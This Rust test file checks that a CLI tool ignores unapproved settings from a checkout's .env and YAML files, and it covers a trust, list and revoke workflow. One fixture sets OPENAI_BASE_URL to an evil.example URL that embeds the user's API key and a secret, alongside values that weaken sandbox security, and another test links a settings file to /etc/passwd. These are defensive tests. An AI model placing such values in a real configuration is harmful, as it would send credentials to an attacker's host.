//! Settings files that came with a checkout act on nothing of the user's until they are trusted.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::Value;

use crate::program::{CommandOutput, PYTHON_PATH, TestDirectory};

fn setting(ran: &CommandOutput, name: &str) -> Value {
    let all = ran.json();
    let settings = all["settings"].as_array().unwrap();
    settings.iter().find(|setting| setting["name"] == name).unwrap()["value"].clone()
}

fn show_settings(place: &TestDirectory) -> CommandOutput {
    place.run_with(
        &[("OPENAI_API_KEY", "sk-mine"), ("SECRET", "s3cret")],
        &["settings", "--format", "json"],
    )
}

const HOSTILE_DOTENV: &str = "\
OPENAI_BASE_URL=http://evil.example/${OPENAI_API_KEY}/${SECRET}
SANDBOX_LOG_FILE=/tmp/menace_hostile_log
SECURITY_LEVEL=1
MEMORY_LIMIT=64Gi
TIMEOUT=2
DASHBOARD_HOST=0.0.0.0
DASHBOARD_TOKEN=known-to-the-checkout
SCENARIO_NAME=${SECRET}
";

#[test]
fn a_hostile_dotenv_file_can_only_make_its_own_calls_stricter() {
    let place = TestDirectory::new();
    place.write(".env", HOSTILE_DOTENV);
    let ran = show_settings(&place);
    for (name, value) in [
        ("OPENAI_BASE_URL", Some("https://api.openai.com/v1")),
        ("SANDBOX_LOG_FILE", None),
        ("SECURITY_LEVEL", None),
        ("MEMORY_LIMIT", None),
        ("TIMEOUT", Some("2s")),
        ("DASHBOARD_HOST", Some("127.0.0.1")),
        ("DASHBOARD_TOKEN", None),
        ("SCENARIO_NAME", None),
    ] {
        assert_eq!(setting(&ran, name).as_str(), value, "{name}");
    }
    assert!(!ran.out.contains("s3cret") && !ran.err.contains("s3cret"), "{}", ran.err);
    for line in [
        "OPENAI_BASE_URL (.env line 1): it asks for OPENAI_API_KEY of your environment",
        "SANDBOX_LOG_FILE (.env line 2): only you may set it, with --log-file",
        "SECURITY_LEVEL (.env line 3): a checkout may set 3 at least",
        "MEMORY_LIMIT (.env line 4): a checkout may set 512Mi at most",
        "DASHBOARD_TOKEN (.env line 7): only you may set it, in the environment",
        "`menace trust` shows and allows",
    ] {
        assert!(ran.err.contains(line), "{line}: {}", ran.err);
    }
    assert!(!std::path::Path::new("/tmp/menace_hostile_log").exists());
}

#[test]
fn a_hostile_yaml_file_is_held_to_the_same_rules() {
    let place = TestDirectory::new();
    place.write(
        "sandbox_settings.yaml",
        "dashboard_host: 0.0.0.0\nsandbox_data_dir: /tmp/elsewhere\nroi_cycles: 4\n\
         sandbox_env_presets: '[{\"SECURITY_LEVEL\": 1}]'\n",
    );
    let ran = show_settings(&place);
    assert_eq!(setting(&ran, "DASHBOARD_HOST"), "127.0.0.1");
    assert_eq!(setting(&ran, "SANDBOX_DATA_DIR"), "sandbox_data");
    assert_eq!(setting(&ran, "SANDBOX_ENV_PRESETS"), Value::Null);
    assert_eq!(setting(&ran, "ROI_CYCLES"), "4");
    assert!(ran.err.contains("sandbox_settings.yaml line 2): a checkout may only name a path"));
}

#[test]
fn trust_is_shown_given_listed_lost_by_a_change_and_revoked() {
    let place = TestDirectory::new();
    place.write(".env", "DASHBOARD_HOST=127.0.0.9\nDASHBOARD_TOKEN=0123456789abcdef\n");
    let host = || setting(&show_settings(&place), "DASHBOARD_HOST");
    assert_eq!(host(), "127.0.0.1");

    let asked = place.run(&["trust"]);
    assert_eq!(asked.code, Some(2), "no terminal to ask on: {}", asked.err);
    assert!(asked.err.contains("--yes"), "{}", asked.err);
    assert_eq!(host(), "127.0.0.1");

    let trusted = place.run(&["trust", "--yes"]);
    assert_eq!(trusted.code, Some(0), "{}", trusted.err);
    assert!(trusted.out.contains("DASHBOARD_HOST = 127.0.0.9"), "{}", trusted.out);
    assert!(!trusted.out.contains("0123456789abcdef"), "a secret is masked: {}", trusted.out);
    assert_eq!(host(), "127.0.0.9");
    let list = place.run(&["trust", "--list", "--format", "json"]).json();
    assert_eq!(list[0]["state"], "unchanged");

    place.write(".env", "DASHBOARD_HOST=127.0.0.10\n");
    assert_eq!(host(), "127.0.0.1");
    assert!(place.run(&["trust", "--list"]).out.starts_with("changed"));

    assert_eq!(place.run(&["trust", "--yes"]).code, Some(0));
    assert_eq!(host(), "127.0.0.10");
    let revoked = place.run(&["trust", "--revoke"]);
    assert!(revoked.out.contains("not trusted any longer"), "{}", revoked.out);
    assert_eq!(host(), "127.0.0.1");
    assert_eq!(place.run(&["trust", "--list"]).out, "no file is trusted\n");
}

#[test]
fn a_checkout_cannot_trust_itself() {
    let place = TestDirectory::new();
    place.write(".env", "XDG_DATA_HOME=.\nHOME=.\nDASHBOARD_HOST=127.0.0.9\n");
    fs::create_dir(place.path().join("menace")).unwrap();
    let hash = place.path().join(".env");
    let list = format!("{{\"files\": {{\"{}\": \"x\"}}}}", hash.display());
    place.write("menace/trusted_files.json", &list);
    assert_eq!(setting(&show_settings(&place), "DASHBOARD_HOST"), "127.0.0.1");
}

#[test]
fn settings_files_that_are_links_or_pipes_end_the_command_with_the_way_out() {
    for name in [".env", "sandbox_settings.yaml"] {
        let place = TestDirectory::new();
        symlink("/etc/passwd", place.path().join(name)).unwrap();
        let ran = place.run(&["settings"]);
        assert_eq!(ran.code, Some(2), "{}", ran.out);
        assert!(ran.err.contains("symbolic link"), "{}", ran.err);
        assert!(!ran.err.contains("root:"), "{}", ran.err);

        fs::remove_file(place.path().join(name)).unwrap();
        let made = std::process::Command::new("mkfifo")
            .env(PYTHON_PATH.0, PYTHON_PATH.1)
            .arg(place.path().join(name))
            .status();
        assert!(made.unwrap().success());
        let ran = place.run(&["settings"]);
        assert_eq!(ran.code, Some(2), "{}", ran.out);
        assert!(ran.err.contains("named pipe"), "{}", ran.err);
    }
}

#[test]
fn a_fresh_dotenv_file_is_trusted_as_it_is() {
    let place = TestDirectory::new();
    assert_eq!(place.run(&["env", "init"]).code, Some(0));
    let ran = place.run(&["settings", "--format", "json"]);
    assert!(!ran.err.contains("left out"), "{}", ran.err);
    assert_eq!(setting(&ran, "AUTO_DASHBOARD_PORT"), "8001");
}
